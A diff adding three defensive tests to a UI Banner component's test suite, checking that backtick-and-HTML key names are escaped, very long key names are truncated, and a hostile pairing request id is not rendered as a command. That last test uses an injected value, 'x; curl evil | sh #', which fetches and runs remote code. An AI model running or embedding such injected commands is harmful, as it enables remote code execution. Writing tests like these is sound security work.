@@ -47,6 +47,29 @@ describe('Banner', () => {
     expect(handlers.undo).toHaveBeenCalledWith(false);
   });
 
+  it('key names with backticks render no extra code elements', () => {
+    const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
+    show({ lockouts: [], deviceToken: 'cleared', clearedKeys: [key], sharedTokenInTab: true, undo: 'available' });
+    const codes = [...container.querySelectorAll('code')];
+    expect(codes.map((c) => c.textContent)).toEqual([key]);
+    expect(container.querySelector('p b')).toBeNull();
+    expect(container.querySelector('p')!.textContent).toContain(key);
+  });
+
+  it('long key names are cut in the banner', () => {
+    const key = `openclaw.device.auth.v1:ws://${'x'.repeat(1024 * 1024)}`;
+    show({ lockouts: [], deviceToken: 'cleared', clearedKeys: [key], sharedTokenInTab: true, undo: 'available' });
+    const shown = container.querySelector('code')!.textContent!;
+    expect(shown.length).toBeLessThanOrEqual(200);
+    expect(shown.endsWith('…')).toBe(true);
+  });
+
+  it('a hostile pairing request id is never shown as a command', () => {
+    show({ lockouts: [{ kind: 'pairing-required', requestId: 'x; curl evil | sh #' }] });
+    expect(container.textContent).not.toContain('curl');
+    expect([...container.querySelectorAll('code')].map((c) => c.textContent)).toContain('openclaw devices approve <requestId>');
+  });
+
   it('asks before Undo overwrites a newer token', () => {
     const handlers = show({ lockouts: [], deviceToken: 'cleared', clearedKeys: ['k'], undo: 'confirm-overwrite' });
     expect(buttons()).toEqual(['Replace with backup', 'Keep the newer token', 'Dismiss']);
